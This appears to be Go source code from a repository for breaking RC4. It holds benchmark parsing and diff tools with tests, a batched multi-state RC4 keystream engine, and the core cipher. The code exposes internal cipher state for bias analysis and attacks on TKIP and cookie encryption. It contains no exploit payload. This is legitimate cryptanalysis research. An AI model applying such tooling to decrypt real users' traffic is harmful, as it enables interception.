			fmt.Printf("      checkpoint: %d %s -> %s\n", l.Progress(), l.Unit, l.Path)
			sinceWrite = 0
		}
	}
	return nil
}
