package cliutil

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strconv"
	"strings"
)

// ErrNoBenchResults is returned by WriteBenchJSON when the input contains no
// benchmark result lines at all. An empty bench run in CI means the bench
// invocation itself broke (compile error swallowed by a pipe, wrong -bench
// pattern) — emitting "[]" would let a dead perf gate pass silently.
var ErrNoBenchResults = errors.New("cliutil: no benchmark results in input")

// BenchResult is one parsed `go test -bench` result line in the
// machine-readable form the CI bench job emits: the perf trajectory of the
// repository accumulates as one JSON file per PR, diffable and plottable
// without re-parsing Go's text format.
type BenchResult struct {
	// Pkg is the package the benchmark ran in (from the preceding "pkg:"
	// header) — benchmark names are only unique per package.
	Pkg string `json:"pkg,omitempty"`
	// Name is the benchmark name with the -N GOMAXPROCS suffix stripped.
	Name string `json:"name"`
	// Procs is the GOMAXPROCS suffix (1 when absent).
	Procs int `json:"procs"`
	// Iterations is b.N.
	Iterations int64 `json:"iterations"`
	// NsPerOp is the ns/op measurement.
	NsPerOp float64 `json:"ns_per_op"`
	// Metrics holds every other unit pair on the line: B/op, allocs/op,
	// MB/s, and any b.ReportMetric custom units (success rates, z
	// statistics, median ranks).
	Metrics map[string]float64 `json:"metrics,omitempty"`
}

// ParseBenchOutput extracts benchmark result lines from `go test -bench`
// output (other lines — goos/pkg headers, PASS/ok trailers, test chatter —
// are ignored). It understands the standard "value unit" pair format, so
// -benchmem columns and custom b.ReportMetric units all land in Metrics.
func ParseBenchOutput(r io.Reader) ([]BenchResult, error) {
	out := []BenchResult{}
	pkg := ""
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 1024*1024), 1024*1024)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if rest, ok := strings.CutPrefix(line, "pkg:"); ok {
			pkg = strings.TrimSpace(rest)
			continue
		}
		if !strings.HasPrefix(line, "Benchmark") {
			continue
		}
		fields := strings.Fields(line)
		// A result line is: name, iterations, then (value, unit) pairs.
		if len(fields) < 4 || len(fields)%2 != 0 {
			continue
		}
		iters, err := strconv.ParseInt(fields[1], 10, 64)
		if err != nil {
			continue
		}
		res := BenchResult{Pkg: pkg, Name: fields[0], Procs: 1, Iterations: iters}
		if i := strings.LastIndex(res.Name, "-"); i > 0 {
			if p, err := strconv.Atoi(res.Name[i+1:]); err == nil {
				res.Name, res.Procs = res.Name[:i], p
			}
		}
		ok := true
		for f := 2; f+1 < len(fields); f += 2 {
			v, err := strconv.ParseFloat(fields[f], 64)
			if err != nil {
				ok = false
				break
			}
			unit := fields[f+1]
			if unit == "ns/op" {
				res.NsPerOp = v
				continue
			}
			if res.Metrics == nil {
				res.Metrics = make(map[string]float64)
			}
			res.Metrics[unit] = v
		}
		if ok {
			out = append(out, res)
		}
	}
	return out, sc.Err()
}

// MinBench collapses repeated measurements of the same benchmark — the
// output shape of `go test -bench -count N` — to the single run with the
// lowest ns/op. Minimum, not mean: on a noisy shared runner the best run is
// the one least disturbed by neighbors, so min-of-N is the stable statistic
// the keystream perf gate diffs. First-seen order is preserved; benchmarks
// that appear once pass through unchanged.
func MinBench(results []BenchResult) []BenchResult {
	idx := make(map[string]int, len(results))
	out := make([]BenchResult, 0, len(results))
	for _, r := range results {
		k := fmt.Sprintf("%s\x00%d", benchKey(r), r.Procs)
		if i, ok := idx[k]; ok {
			if r.NsPerOp < out[i].NsPerOp {
				out[i] = r
			}
			continue
		}
		idx[k] = len(out)
		out = append(out, r)
	}
	return out
}

// WriteBenchJSON parses bench output from r and writes the results as
// indented JSON — the body of scripts/benchjson. minOfRuns collapses
// -count N repeats via MinBench. Input with no benchmark lines at all is
// ErrNoBenchResults, never an empty document.
func WriteBenchJSON(r io.Reader, w io.Writer, minOfRuns bool) error {
	results, err := ParseBenchOutput(r)
	if err != nil {
		return err
	}
	if len(results) == 0 {
		return ErrNoBenchResults
	}
	if minOfRuns {
		results = MinBench(results)
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(results)
}
