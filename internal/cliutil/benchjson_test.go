package cliutil

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
)

const sampleBenchOutput = `goos: linux
goarch: amd64
pkg: rc4break
cpu: Intel(R) Xeon(R) Processor @ 2.10GHz
BenchmarkTable1FluhrerMcGrew  	       5	   3682412 ns/op	        -1.000 z(0,0)
BenchmarkLikelihoodsCookie-4    	       3	  14448881 ns/op	 2979341 B/op	      93 allocs/op
BenchmarkKeystream    	     100	    123456 ns/op	 588.00 MB/s
--- PASS: TestSomething (0.01s)
PASS
ok  	rc4break	3.589s
`

func TestParseBenchOutput(t *testing.T) {
	results, err := ParseBenchOutput(strings.NewReader(sampleBenchOutput))
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 3 {
		t.Fatalf("parsed %d results, want 3", len(results))
	}

	r := results[0]
	if r.Name != "BenchmarkTable1FluhrerMcGrew" || r.Procs != 1 || r.Iterations != 5 {
		t.Fatalf("row 0: %+v", r)
	}
	if r.Pkg != "rc4break" {
		t.Fatalf("row 0 pkg: %q", r.Pkg)
	}
	if r.NsPerOp != 3682412 || r.Metrics["z(0,0)"] != -1 {
		t.Fatalf("row 0 values: %+v", r)
	}

	r = results[1]
	if r.Name != "BenchmarkLikelihoodsCookie" || r.Procs != 4 {
		t.Fatalf("row 1: %+v", r)
	}
	if r.Metrics["B/op"] != 2979341 || r.Metrics["allocs/op"] != 93 {
		t.Fatalf("row 1 metrics: %+v", r.Metrics)
	}

	if results[2].Metrics["MB/s"] != 588 {
		t.Fatalf("row 2 metrics: %+v", results[2].Metrics)
	}
}

func TestWriteBenchJSONRoundTrips(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteBenchJSON(strings.NewReader(sampleBenchOutput), &buf, false); err != nil {
		t.Fatal(err)
	}
	var decoded []BenchResult
	if err := json.Unmarshal(buf.Bytes(), &decoded); err != nil {
		t.Fatalf("output is not valid JSON: %v", err)
	}
	if len(decoded) != 3 || decoded[1].Name != "BenchmarkLikelihoodsCookie" {
		t.Fatalf("round trip lost data: %+v", decoded)
	}
}

func TestParseBenchOutputIgnoresMalformed(t *testing.T) {
	in := "BenchmarkBroken abc ns/op\nBenchmarkHalfPair 10 123\nBenchmarkOK 2 5 ns/op\n"
	results, err := ParseBenchOutput(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 1 || results[0].Name != "BenchmarkOK" {
		t.Fatalf("got %+v", results)
	}
}

func TestWriteBenchJSONEmptyInputErrors(t *testing.T) {
	// A bench run that produced zero result lines means the bench step
	// itself broke — that must be an error, not an empty "[]" document a
	// perf gate would happily diff against.
	var buf bytes.Buffer
	err := WriteBenchJSON(strings.NewReader("PASS\nok rc4break 0.1s\n"), &buf, false)
	if !errors.Is(err, ErrNoBenchResults) {
		t.Fatalf("empty input: err = %v, want ErrNoBenchResults", err)
	}
	if buf.Len() != 0 {
		t.Fatalf("empty input still wrote %q", buf.String())
	}
}

func TestMinBench(t *testing.T) {
	in := []BenchResult{
		{Pkg: "p", Name: "BenchmarkA", Procs: 1, NsPerOp: 300, Metrics: map[string]float64{"MB/s": 10}},
		{Pkg: "p", Name: "BenchmarkB", Procs: 1, NsPerOp: 50},
		{Pkg: "p", Name: "BenchmarkA", Procs: 1, NsPerOp: 100, Metrics: map[string]float64{"MB/s": 30}},
		{Pkg: "p", Name: "BenchmarkA", Procs: 1, NsPerOp: 200, Metrics: map[string]float64{"MB/s": 15}},
	}
	out := MinBench(in)
	if len(out) != 2 {
		t.Fatalf("got %d results, want 2: %+v", len(out), out)
	}
	if out[0].Name != "BenchmarkA" || out[0].NsPerOp != 100 || out[0].Metrics["MB/s"] != 30 {
		t.Fatalf("min run not kept whole: %+v", out[0])
	}
	if out[1].Name != "BenchmarkB" || out[1].NsPerOp != 50 {
		t.Fatalf("singleton mangled: %+v", out[1])
	}
}
