package cliutil

import (
	"fmt"
	"io"
	"regexp"
	"sort"
)

// BenchDelta compares one benchmark between two ParseBenchOutput runs.
type BenchDelta struct {
	Pkg  string
	Name string
	// OldNs and NewNs are the ns/op measurements.
	OldNs, NewNs float64
	// Delta is the fractional change (NewNs-OldNs)/OldNs: +0.25 means 25%
	// slower than the baseline.
	Delta float64
}

// benchKey deliberately excludes the -N GOMAXPROCS suffix: the committed
// baselines come from a 1-CPU container while CI runners have several
// cores, and a key that included procs would match nothing across that
// boundary — every benchmark appears once per run here, so (pkg, name) is
// unique.
func benchKey(r BenchResult) string {
	return fmt.Sprintf("%s\x00%s", r.Pkg, r.Name)
}

// FilterBench keeps only the results whose benchmark name matches re — the
// allowlist behind benchdiff's -gate mode, which fails CI on regressions in
// a pinned benchmark family while the module-wide diff stays warn-only.
func FilterBench(results []BenchResult, re *regexp.Regexp) []BenchResult {
	out := make([]BenchResult, 0, len(results))
	for _, r := range results {
		if re.MatchString(r.Name) {
			out = append(out, r)
		}
	}
	return out
}

// DiffBench matches benchmarks between a baseline and a new run by
// (package, name) — ignoring the GOMAXPROCS suffix, see benchKey — and
// reports per-benchmark ns/op deltas, plus the names present on only one
// side (renamed, added, or removed benchmarks — surfaced rather than
// silently dropped).
func DiffBench(baseline, current []BenchResult) (deltas []BenchDelta, onlyBaseline, onlyCurrent []string) {
	base := make(map[string]BenchResult, len(baseline))
	for _, r := range baseline {
		base[benchKey(r)] = r
	}
	seen := make(map[string]bool, len(current))
	for _, r := range current {
		k := benchKey(r)
		seen[k] = true
		b, ok := base[k]
		if !ok {
			onlyCurrent = append(onlyCurrent, r.Pkg+"."+r.Name)
			continue
		}
		d := BenchDelta{Pkg: r.Pkg, Name: r.Name, OldNs: b.NsPerOp, NewNs: r.NsPerOp}
		if b.NsPerOp > 0 {
			d.Delta = (r.NsPerOp - b.NsPerOp) / b.NsPerOp
		}
		deltas = append(deltas, d)
	}
	for k, r := range base {
		if !seen[k] {
			onlyBaseline = append(onlyBaseline, r.Pkg+"."+r.Name)
		}
	}
	sort.Slice(deltas, func(i, j int) bool { return deltas[i].Delta > deltas[j].Delta })
	sort.Strings(onlyBaseline)
	sort.Strings(onlyCurrent)
	return deltas, onlyBaseline, onlyCurrent
}

// FormatBenchDiff renders the deltas (worst regression first) and returns
// how many exceed the regression threshold (fractional; 0.25 = fail on
// >25% slower). A zero threshold disables the regression count — every
// delta is informational.
func FormatBenchDiff(w io.Writer, deltas []BenchDelta, onlyBaseline, onlyCurrent []string, threshold float64) (regressions int) {
	nameW := len("benchmark")
	for _, d := range deltas {
		if n := len(d.Name); n > nameW {
			nameW = n
		}
	}
	fmt.Fprintf(w, "%-*s  %14s  %14s  %8s\n", nameW, "benchmark", "old ns/op", "new ns/op", "delta")
	for _, d := range deltas {
		flag := ""
		if threshold > 0 && d.Delta > threshold {
			flag = "  REGRESSION"
			regressions++
		}
		fmt.Fprintf(w, "%-*s  %14.1f  %14.1f  %+7.1f%%%s\n", nameW, d.Name, d.OldNs, d.NewNs, 100*d.Delta, flag)
	}
	for _, n := range onlyBaseline {
		fmt.Fprintf(w, "only in baseline: %s\n", n)
	}
	for _, n := range onlyCurrent {
		fmt.Fprintf(w, "only in current:  %s\n", n)
	}
	return regressions
}
