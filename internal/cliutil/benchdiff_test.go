package cliutil

import (
	"regexp"
	"strings"
	"testing"
)

func TestDiffBench(t *testing.T) {
	baseline := []BenchResult{
		{Pkg: "rc4break/internal/rc4", Name: "BenchmarkKeystream", Procs: 1, NsPerOp: 1000},
		{Pkg: "rc4break/internal/rc4", Name: "BenchmarkSkip", Procs: 1, NsPerOp: 500},
		{Pkg: "rc4break", Name: "BenchmarkGone", Procs: 1, NsPerOp: 42},
	}
	// The current run has a different GOMAXPROCS (a multi-core CI runner
	// diffing against the 1-CPU container baseline); matching must not care.
	current := []BenchResult{
		{Pkg: "rc4break/internal/rc4", Name: "BenchmarkKeystream", Procs: 4, NsPerOp: 1400}, // +40%
		{Pkg: "rc4break/internal/rc4", Name: "BenchmarkSkip", Procs: 4, NsPerOp: 450},       // -10%
		{Pkg: "rc4break", Name: "BenchmarkNew", Procs: 4, NsPerOp: 7},
	}

	deltas, onlyBase, onlyCur := DiffBench(baseline, current)
	if len(deltas) != 2 {
		t.Fatalf("deltas = %d, want 2", len(deltas))
	}
	// Sorted worst-first: the +40% regression leads.
	if deltas[0].Name != "BenchmarkKeystream" || deltas[0].Delta < 0.399 || deltas[0].Delta > 0.401 {
		t.Fatalf("worst delta = %+v", deltas[0])
	}
	if deltas[1].Name != "BenchmarkSkip" || deltas[1].Delta > -0.099 {
		t.Fatalf("second delta = %+v", deltas[1])
	}
	if len(onlyBase) != 1 || !strings.Contains(onlyBase[0], "BenchmarkGone") {
		t.Fatalf("onlyBaseline = %v", onlyBase)
	}
	if len(onlyCur) != 1 || !strings.Contains(onlyCur[0], "BenchmarkNew") {
		t.Fatalf("onlyCurrent = %v", onlyCur)
	}

	var buf strings.Builder
	if got := FormatBenchDiff(&buf, deltas, onlyBase, onlyCur, 0.25); got != 1 {
		t.Fatalf("regressions = %d, want 1 (only the +40%%)", got)
	}
	out := buf.String()
	if !strings.Contains(out, "REGRESSION") || !strings.Contains(out, "only in baseline") {
		t.Fatalf("report missing markers:\n%s", out)
	}
	// Threshold 0 disables the gate entirely.
	if got := FormatBenchDiff(&strings.Builder{}, deltas, nil, nil, 0); got != 0 {
		t.Fatalf("threshold 0 counted %d regressions", got)
	}
}

func TestFilterBench(t *testing.T) {
	results := []BenchResult{
		{Pkg: "rc4", Name: "BenchmarkKeystreamMulti1K", NsPerOp: 1},
		{Pkg: "rc4", Name: "BenchmarkSkip1K", NsPerOp: 2},
		{Pkg: "rc4", Name: "BenchmarkRekey", NsPerOp: 3},
		{Pkg: "dataset", Name: "BenchmarkEngine", NsPerOp: 4},
	}
	re := regexp.MustCompile(`BenchmarkKeystream|BenchmarkSkip`)
	got := FilterBench(results, re)
	if len(got) != 2 || got[0].Name != "BenchmarkKeystreamMulti1K" || got[1].Name != "BenchmarkSkip1K" {
		t.Fatalf("FilterBench = %+v", got)
	}
	if got := FilterBench(results, regexp.MustCompile(`^Nothing$`)); len(got) != 0 {
		t.Fatalf("non-matching filter kept %+v", got)
	}
}

func TestLaneSeedDistinct(t *testing.T) {
	const seed = 1
	seen := map[int64]uint64{seed: ^uint64(0)}
	for lane := uint64(0); lane < 1000; lane++ {
		s := LaneSeed(seed, lane)
		if prev, dup := seen[s]; dup {
			t.Fatalf("lane %d collides with lane %d (seed %d)", lane, prev, s)
		}
		seen[s] = lane
	}
}
