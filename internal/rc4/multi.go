// Cross-state batched RC4: a structure-of-arrays backend driving many
// independent cipher states in lockstep.
//
// A single RC4 state is serially dependent — every PRGA round's j depends on
// the previous round's swap — so one state can never run faster than the
// load-to-use latency of that chain (~4 cycles/byte on current cores). But
// the workloads in this repository never want one keystream: the dataset
// engine, both attacks, and the fleet workers all generate keystreams for
// millions of *independent* keys. MultiCipher lays MultiLanes states side by
// side — the small per-lane indices (the j of every lane) in
// structure-of-arrays order, the S-boxes as adjacent 256-byte blocks — and
// advances them with one shared public counter i: because i's walk is
// key-independent, every lane is always at the same i, and one pass over a
// lane group amortizes loop and index overhead while the CPU overlaps the
// independent j-chains. The same trick batches the KSA: the key-mixing
// loop's counter is public too.
//
// An element-major S layout (all lanes' S[p] interleaved in one row) is what
// a gather/scatter vector unit would want — S[i] for all lanes becomes one
// contiguous row load and the per-lane S[j] accesses a conflict-free gather
// — but x86 offers no byte-granular scatter (AVX-512 scatters are
// dword-wide and would clobber neighboring lanes), and on a scalar core the
// interleaved layout loses outright: every access pays index×MultiLanes
// address arithmetic, which profiling showed dominating the kernel. The
// shipped kernels are therefore pure Go over lane-major S blocks, written so
// lane offsets fold into constant load displacements and the compiler's
// bounds-check elimination sees every index as provably in range (see
// kernel.go). An architecture that grows a byte scatter can slot a real
// vector kernel in behind the same dispatch (see backend.go) without
// touching callers.
//
// Outputs are bitwise identical to running MultiLanes scalar Ciphers:
// TestMultiMatchesScalar and FuzzKeystreamBackends pin every lane, key
// length, skip offset, and window split against the scalar reference.
package rc4

import "fmt"

// MultiLanes is the number of independent RC4 states a MultiCipher advances
// in lockstep. 32 lanes saturate the out-of-order window of current x86/ARM
// cores without pushing the working set (MultiLanes × 256-byte S-boxes) out
// of L1; the SoA state is 8 KB.
const MultiLanes = 32

// MultiCipher is a batch of MultiLanes independent RC4 states advanced in
// lockstep. The zero value is not keyed; call Rekey before generating. All
// lanes always sit at the same public counter i — the batch APIs only ever
// advance every lane by the same amount, which is what keeps the shared-i
// invariant (and the whole SoA scheme) sound.
type MultiCipher struct {
	i uint8
	j [MultiLanes]uint8
	// s holds the MultiLanes permutations lane-major: lane l's S[p] lives
	// at s[l*StateSize+p], so a lane group's blocks sit at constant
	// offsets from one base (see kernel.go for why this beats an
	// element-major interleave on scalar cores).
	s [StateSize * MultiLanes]byte
	// kbuf is the tiled key material reused by every Rekey, laid out like
	// s so the KSA mixing loop reads each lane's block linearly.
	kbuf [StateSize * MultiLanes]byte
}

// NewMulti returns an unkeyed MultiCipher.
func NewMulti() *MultiCipher {
	return &MultiCipher{}
}

// Lanes returns MultiLanes; callers sizing key and destination slices can
// stay ignorant of the constant.
func (m *MultiCipher) Lanes() int { return MultiLanes }

// Rekey runs the batched KSA, keying lane l with keys[l]. Exactly MultiLanes
// keys are required (pad a short batch by repeating a key and ignoring the
// padded lanes' output — the dataset engine does this for tail batches). Key
// lengths may differ between lanes; each must be 1..256 bytes.
func (m *MultiCipher) Rekey(keys [][]byte) error {
	if len(keys) != MultiLanes {
		return fmt.Errorf("rc4: MultiCipher.Rekey wants %d keys, got %d", MultiLanes, len(keys))
	}
	for l, key := range keys {
		if len(key) < MinKeyLen || len(key) > MaxKeyLen {
			return fmt.Errorf("rc4: lane %d: %w", l, error(KeySizeError(len(key))))
		}
	}
	// Tile each lane's key across its kbuf block, so the mixing loop
	// indexes key material linearly — the batched sibling of the scalar
	// ksa's kbuf.
	for l, key := range keys {
		blk := m.kbuf[l*StateSize : l*StateSize+StateSize]
		for n := copy(blk, key); n < StateSize; {
			n += copy(blk[n:], blk[:n])
		}
	}
	m.ksa()
	return nil
}

// Skip advances every lane by n keystream bytes without producing output;
// n <= 0 is a no-op, matching Cipher.Skip.
func (m *MultiCipher) Skip(n int) {
	m.SkipKeystream(n, nil)
}

// Keystream fills dsts[l] with lane l's next keystream bytes. dsts must hold
// MultiLanes equally sized buffers.
func (m *MultiCipher) Keystream(dsts [][]byte) {
	m.SkipKeystream(0, dsts)
}

// SkipKeystream advances every lane by skip bytes and then fills dsts — the
// fused per-key drop-N + first-window call, like Cipher.SkipKeystream. A nil
// dsts generates nothing after the skip; otherwise dsts must hold MultiLanes
// buffers of one common length.
func (m *MultiCipher) SkipKeystream(skip int, dsts [][]byte) {
	if skip < 0 {
		skip = 0
	}
	if dsts == nil {
		if skip == 0 {
			return
		}
		for l0 := 0; l0 < MultiLanes; l0 += laneGroup {
			m.runLanes(l0, skip, nil, nil, nil, nil)
		}
		m.i += uint8(skip)
		return
	}
	if len(dsts) != MultiLanes {
		panic(fmt.Sprintf("rc4: MultiCipher wants %d destinations, got %d", MultiLanes, len(dsts)))
	}
	want := len(dsts[0])
	for _, d := range dsts {
		if len(d) != want {
			panic("rc4: MultiCipher destinations differ in length")
		}
	}
	if skip == 0 && want == 0 {
		return
	}
	for l0 := 0; l0 < MultiLanes; l0 += laneGroup {
		m.runLanes(l0, skip, dsts[l0], dsts[l0+1], dsts[l0+2], dsts[l0+3])
	}
	m.i += uint8(skip + want)
}

// Lane extracts lane l as a standalone scalar Cipher positioned exactly
// where the lane stands — generation through the copy continues the lane's
// keystream bit for bit. Used by tests and by callers that need to peel one
// state out of a batch.
func (m *MultiCipher) Lane(l int) *Cipher {
	if l < 0 || l >= MultiLanes {
		panic(fmt.Sprintf("rc4: lane %d out of range", l))
	}
	var c Cipher
	copy(c.s[:], m.s[l*StateSize:l*StateSize+StateSize])
	c.i, c.j = m.i, m.j[l]
	return &c
}

// Reset zeroes all lane state so key material does not linger.
func (m *MultiCipher) Reset() {
	*m = MultiCipher{}
}
