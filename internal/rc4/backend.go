package rc4

import (
	"fmt"
	"os"
)

// Backend names a keystream kernel family for batch consumers (the dataset
// engine's shard workers). The scalar backend runs one Cipher per key with
// the unrolled fused skip+generate kernel; the multi backend drives
// MultiLanes independent states in lockstep through MultiCipher. Outputs are
// bitwise identical — the choice is purely a throughput/footprint trade, and
// the cross-backend tests and FuzzKeystreamBackends hold the two families to
// byte equality.
type Backend int

const (
	// BackendAuto defers the choice to Resolve: the RC4_BACKEND
	// environment variable if set, else the compile-time default
	// (BackendMulti, or BackendScalar under the rc4_purego build tag).
	BackendAuto Backend = iota
	// BackendScalar forces the per-key scalar Cipher path.
	BackendScalar
	// BackendMulti forces the batched multi-state path.
	BackendMulti
)

// BackendEnv is the environment variable Resolve consults when the backend
// is BackendAuto. Recognized values: "scalar", "multi" (alias "soa"), and
// "" / "auto" for the compile-time default.
const BackendEnv = "RC4_BACKEND"

func (b Backend) String() string {
	switch b {
	case BackendAuto:
		return "auto"
	case BackendScalar:
		return "scalar"
	case BackendMulti:
		return "multi"
	}
	return fmt.Sprintf("Backend(%d)", int(b))
}

// ParseBackend maps a backend name to its Backend. "soa" is accepted as an
// alias for "multi" (the batched kernels' state is laid out per lane, but
// the backend grew out of — and is documented as — the SoA design; both
// names appear in docs and CI).
func ParseBackend(name string) (Backend, error) {
	switch name {
	case "", "auto":
		return BackendAuto, nil
	case "scalar":
		return BackendScalar, nil
	case "multi", "soa":
		return BackendMulti, nil
	}
	return BackendAuto, fmt.Errorf("rc4: unknown backend %q (want auto, scalar, multi, or soa)", name)
}

// Resolve turns a possibly-auto Backend into a concrete one: an explicit
// choice resolves to itself; BackendAuto consults RC4_BACKEND and falls back
// to the compile-time default. An unparseable RC4_BACKEND value is an error
// rather than a silent fallback — a benchmark or CI matrix leg that thinks
// it forced a backend must never quietly measure the wrong one.
func (b Backend) Resolve() (Backend, error) {
	if b != BackendAuto {
		return b, nil
	}
	env, err := ParseBackend(os.Getenv(BackendEnv))
	if err != nil {
		return BackendAuto, err
	}
	if env != BackendAuto {
		return env, nil
	}
	return defaultBackend, nil
}
