//go:build !rc4_purego

package rc4

// defaultBackend is what BackendAuto resolves to absent an RC4_BACKEND
// override. The batched multi-state kernels are the default everywhere; the
// rc4_purego build tag (see backend_purego.go) pins the conservative scalar
// reference path instead, and the CI backend matrix builds and tests both
// configurations so neither can rot.
const defaultBackend = BackendMulti
