// Package rc4 implements the RC4 stream cipher from scratch, exposing the
// internal permutation state so that bias-hunting and attack code can inspect
// it. The standard library's crypto/rc4 deliberately hides state and rejects
// some key lengths; the analyses in this repository (per-round state
// inspection, key-length dependent biases, TKIP's 16-byte per-packet keys)
// need full control, so we implement KSA and PRGA directly.
//
// The cipher follows the classic description: the Key Scheduling Algorithm
// (KSA) initializes a 256-byte permutation S from the key, and the
// Pseudo-Random Generation Algorithm (PRGA) walks S with public counter i and
// private index j, emitting one keystream byte per round. All index
// arithmetic is modulo 256.
package rc4

import "fmt"

// StateSize is the size of the RC4 permutation.
const StateSize = 256

// MinKeyLen and MaxKeyLen bound the accepted key lengths. RC4 keys are
// 1..256 bytes; the paper uses 16-byte keys throughout (both for random-key
// datasets and for TKIP per-packet keys).
const (
	MinKeyLen = 1
	MaxKeyLen = 256
)

// Cipher is an RC4 instance. The zero value is not usable; construct with
// New or NewFromState.
type Cipher struct {
	s    [StateSize]byte
	i, j uint8
}

// KeySizeError is returned by New for out-of-range key lengths.
type KeySizeError int

func (k KeySizeError) Error() string {
	return fmt.Sprintf("rc4: invalid key size %d (want %d..%d)", int(k), MinKeyLen, MaxKeyLen)
}

// New creates an RC4 cipher keyed with key, running the full KSA.
func New(key []byte) (*Cipher, error) {
	if len(key) < MinKeyLen || len(key) > MaxKeyLen {
		return nil, KeySizeError(len(key))
	}
	var c Cipher
	c.ksa(key)
	return &c, nil
}

// MustNew is New but panics on a bad key length. It is intended for callers
// that construct keys of a fixed, known-valid length (e.g. the dataset
// generators, which always use 16-byte keys).
func MustNew(key []byte) *Cipher {
	c, err := New(key)
	if err != nil {
		panic(err)
	}
	return c
}

// Rekey re-runs the KSA on an existing cipher value, making it equivalent to
// a freshly constructed New(key). The generation engine re-keys one Cipher
// per worker millions of times, so avoiding the per-key allocation matters.
func (c *Cipher) Rekey(key []byte) error {
	if len(key) < MinKeyLen || len(key) > MaxKeyLen {
		return KeySizeError(len(key))
	}
	c.ksa(key)
	return nil
}

// NewFromState builds a cipher with an explicit internal state. It is used
// by tests and by analyses that model RC4 mid-stream (e.g. checking the
// Fluhrer–McGrew digraph model, which assumes a uniformly random internal
// state). The permutation is copied; i and j are the PRGA indices as they
// stand *before* the next round (the PRGA increments i first).
func NewFromState(s [StateSize]byte, i, j uint8) *Cipher {
	return &Cipher{s: s, i: i, j: j}
}

// ksa runs the Key Scheduling Algorithm. The key is first tiled into a
// 256-byte buffer so the mixing loop indexes it linearly — no n%len(key)
// division on the hot path, which is measurable at engine scale where every
// generated keystream pays one KSA.
func (c *Cipher) ksa(key []byte) {
	s := &c.s
	for n := 0; n < StateSize; n++ {
		s[n] = byte(n)
	}
	var kbuf [StateSize]byte
	for n := 0; n < StateSize; n += len(key) {
		copy(kbuf[n:], key)
	}
	var j uint8
	for n := 0; n < StateSize; n++ {
		x := s[n]
		j += x + kbuf[n]
		s[n], s[j] = s[j], x
	}
	c.i, c.j = 0, 0
}

// Next returns the next keystream byte (one PRGA round).
func (c *Cipher) Next() byte {
	c.i++
	c.j += c.s[c.i]
	c.s[c.i], c.s[c.j] = c.s[c.j], c.s[c.i]
	return c.s[uint8(c.s[c.i]+c.s[c.j])]
}

// Keystream fills dst with the next len(dst) keystream bytes. It is the hot
// path for dataset generation and runs the batched PRGA of SkipKeystream:
// 8 unrolled rounds per iteration with i, j and the swapped values in
// registers, plus a speculative preload of the next S[i+1] issued before the
// swap stores. Output is byte-for-byte identical to the one-round-at-a-time
// PRGA for every buffer length; see TestKeystreamMatchesScalar.
func (c *Cipher) Keystream(dst []byte) {
	c.SkipKeystream(0, dst)
}

// XORKeyStream sets dst[n] = src[n] XOR keystream. dst and src must overlap
// entirely or not at all, and len(dst) must be >= len(src).
func (c *Cipher) XORKeyStream(dst, src []byte) {
	if len(dst) < len(src) {
		panic("rc4: output smaller than input")
	}
	i, j := c.i, c.j
	s := &c.s
	for n, v := range src {
		i++
		x := s[i]
		j += x
		y := s[j]
		s[i], s[j] = y, x
		dst[n] = v ^ s[uint8(x+y)]
	}
	c.i, c.j = i, j
}

// Skip advances the keystream by n bytes without producing output.
// Mironov's recommendation to drop the initial 12*256 bytes, and the
// long-term dataset's 1023-byte drop, are implemented with Skip. Skips of
// n <= 0 are no-ops.
func (c *Cipher) Skip(n int) {
	c.SkipKeystream(n, nil)
}

// SkipKeystream advances the keystream by skip bytes and then fills dst, in
// one call; Skip and Keystream are its special cases. The generation engine
// issues exactly one of these per key (the drop-N followed by the first
// delivered window), so fusing the two phases keeps i, j and the speculated
// S[i+1] in registers across the whole per-key pass. A skip round is a
// generate round minus the output byte: the speculative preload of the next
// S[i+1] before the swap stores (patched on the rare j == i+1 alias) takes
// the S[i] load latency off the serial j-dependency chain in both loops.
// A skip <= 0 drops nothing.
func (c *Cipher) SkipKeystream(skip int, dst []byte) {
	if skip <= 0 && len(dst) == 0 {
		return
	}
	i, j := c.i, c.j
	s := &c.s
	i++
	x := s[i]
	var y, x2 byte
	for ; skip >= 8; skip -= 8 {
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		i++
		x = x2
	}
	for ; skip > 0; skip-- {
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		i++
		x = x2
	}
	n := 0
	for ; n+8 <= len(dst); n += 8 {
		d := dst[n : n+8 : n+8]
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		d[0] = s[uint8(x+y)]
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		d[1] = s[uint8(x+y)]
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		d[2] = s[uint8(x+y)]
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
